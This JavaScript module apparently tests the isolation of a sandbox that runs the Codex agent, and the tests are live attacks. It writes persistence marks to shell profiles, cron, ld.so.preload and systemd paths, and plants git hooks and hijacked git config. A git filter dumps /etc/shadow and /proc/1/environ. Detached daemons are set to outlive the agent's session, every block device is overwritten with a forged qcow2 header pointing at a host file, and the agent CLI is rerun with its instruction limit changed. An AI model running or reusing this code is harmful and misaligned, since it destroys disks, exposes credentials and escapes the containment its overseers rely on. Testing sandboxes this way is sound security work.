// Places where something could stay, in the machine and in the repository, and what could be written to its disk.
import { spawn } from "node:child_process";
import {
  appendFileSync,
  chmodSync,
  closeSync,
  fsyncSync,
  mkdirSync,
  openSync,
  readdirSync,
  readlinkSync,
  writeFileSync,
  writeSync,
} from "node:fs";
import { readAll, REPOSITORY, run } from "./common.mjs";

/** Places where something could stay. */
const places = () => [
  "/home/codex/.profile",
  "/home/codex/.bashrc",
  "/tmp/intruder",
  "/dev/shm/intruder",
  "/opt/intruder",
  "/opt/mayfly/agent.mjs",
  "/opt/mayfly/intruder",
  "/opt/node/bin/intruder",
  "/opt/codex/bin/intruder",
  "/usr/local/bin/git",
  "/etc/profile.d/intruder.sh",
  "/etc/cron.d/intruder",
  "/var/spool/cron/crontabs/codex",
  "/etc/ld.so.preload",
  "/etc/gitconfig",
  "/run/mayfly/intruder",
  "/run/intruder",
  "/root/intruder",
  "/intruder",
  "/lib/systemd/system/intruder.service",
];

/** Which of them could be written. Then the repository itself: whatever git may be brought to run. */
export function leaveBehind(mark) {
  const written = places().filter((path) => {
    try {
      appendFileSync(path, `\n# ${mark}\n`);
      return true;
    } catch {
      return false;
    }
  });
  const git = (...args) => run("git", ["-C", REPOSITORY, "config", ...args]);
  mkdirSync(`${REPOSITORY}/.git/hooks`, { recursive: true });
  for (const hook of [
    "post-index-change",
    "pre-commit",
    "post-checkout",
    "fsmonitor-watchman",
    "reference-transaction",
  ]) {
    writeFileSync(`${REPOSITORY}/.git/hooks/${hook}`, ranScript(hook, mark));
    chmodSync(`${REPOSITORY}/.git/hooks/${hook}`, 0o755);
  }
  for (const name of ["fsmonitor", "external", "textconv", "clean", "pager", "ssh"]) {
    writeFileSync(`${REPOSITORY}/.git/${name}.sh`, ranScript(name, mark));
    chmodSync(`${REPOSITORY}/.git/${name}.sh`, 0o755);
  }
  git("core.fsmonitor", `${REPOSITORY}/.git/fsmonitor.sh`);
  git("core.hooksPath", `${REPOSITORY}/.git/hooks`);
  git("core.pager", `${REPOSITORY}/.git/pager.sh`);
  git("core.sshCommand", `${REPOSITORY}/.git/ssh.sh`);
  git("diff.external", `${REPOSITORY}/.git/external.sh`);
  git("diff.evil.textconv", `${REPOSITORY}/.git/textconv.sh`);
  // What the filter prints becomes the file's content in the patch: it shows who ran it, and what that one could do.
  git(
    "filter.evil.clean",
    `${REPOSITORY}/.git/clean.sh; id -u; cat /etc/shadow /proc/1/environ 2>&1; ls -A ${REPOSITORY}/.git/ran`,
  );
  git("filter.evil.required", "true");
  writeFileSync(`${REPOSITORY}/.gitattributes`, "*.evil filter=evil diff=evil\n");
  writeFileSync(`${REPOSITORY}/probe.evil`, "nothing ran\n");
  return { written };
}

function ranScript(name, mark) {
  return `#!/bin/sh\nmkdir -p ${REPOSITORY}/.git/ran\necho x > ${REPOSITORY}/.git/ran/${name}-$(/usr/bin/id -u)\necho x > /tmp/ran-${mark}\n`;
}

/** Which places carry a mark of some run. */
export function look() {
  return places().filter((path) => /^# intruder-/m.test(readAll(path) ?? ""));
}

/** Stays when Codex ends, and writes as soon as its result is being gathered. */
export function daemon() {
  // It waits without starting a program each time: that would keep an emulated processor busy for as long as it lives.
  const script = `
    sub put { open(my $f, $_[0], $_[1]); print $f "$_[2]\\n"; close $f }
    $SIG{$_} = "IGNORE" for split / /, shift;
    put(">", "${REPOSITORY}/beat.txt", "beating");
    select(undef, undef, undef, 0.02) until -e "/home/codex/out/index";
    while (1) { put(">", "${REPOSITORY}/late.txt", "late"); put(">>", "${REPOSITORY}/beat.txt", "late") }`;
  for (const signals of ["HUP", "HUP TERM"]) {
    // Twice detached: a session of its own, and its parent is gone.
    spawn("setsid", ["--fork", "perl", "-e", script, signals], { detached: true, stdio: "ignore" }).unref();
  }
  return readlinkSync("/proc/self/cwd");
}

/** Makes the disk say that it is a qcow2 image whose content stands in a file of the host. */
export function disguiseDisk(backing) {
  run("/bin/busybox", ["blockdev", "--setrw", "/dev/vda"]);
  const header = Buffer.alloc(512);
  header.write("QFI\u00fb", 0, "latin1");
  header.writeUInt32BE(2, 4);
  header.writeBigUInt64BE(256n, 8);
  header.writeUInt32BE(backing.length, 16);
  header.writeUInt32BE(16, 20);
  header.writeBigUInt64BE(1n << 20n, 24);
  header.write(backing, 256, "latin1");
  const outcomes = {};
  for (const device of readdirSync("/sys/block").map((name) => `/dev/${name}`)) {
    try {
      const file = openSync(device, "r+");
      writeSync(file, header, 0, header.length, 0);
      fsyncSync(file);
      closeSync(file);
      outcomes[device] = "written";
    } catch (error) {
      outcomes[device] = error.code;
    }
  }
  return outcomes;
}

/** Traces of configuration in the repository that somebody has taken seriously. */
export function honoured() {
  return readdirSync("/tmp").filter((name) => name.startsWith("honoured-"));
}

/**
 * Runs the CLI as our own Codex was run, but for what keeps the repository's own instructions out. What it then asks
 * the model shows what would have been read.
 */
export function plainCodex() {
  const lines = readdirSync("/proc")
    .filter((name) => /^\d+$/.test(name))
    .map((pid) => readAll(`/proc/${pid}/cmdline`)?.split("\0").slice(0, -1) ?? []);
  const own = lines.find(([program, verb]) => program?.endsWith("/codex") && verb === "exec");
  if (own === undefined) {
    return { fault: "our own Codex was not found" };
  }
  const args = own
    .slice(1, -1)
    .map((arg) => (arg.startsWith("project_doc_max_bytes=") ? "project_doc_max_bytes=32768" : arg));
  const at = args.indexOf("--output-last-message");
  args[at + 1] = "/tmp/plain-message";
  const { status, stderr } = run(own[0], [...args, "Plain instructions."], { cwd: REPOSITORY });
  return { status, said: (stderr ?? "").slice(-300) };
}
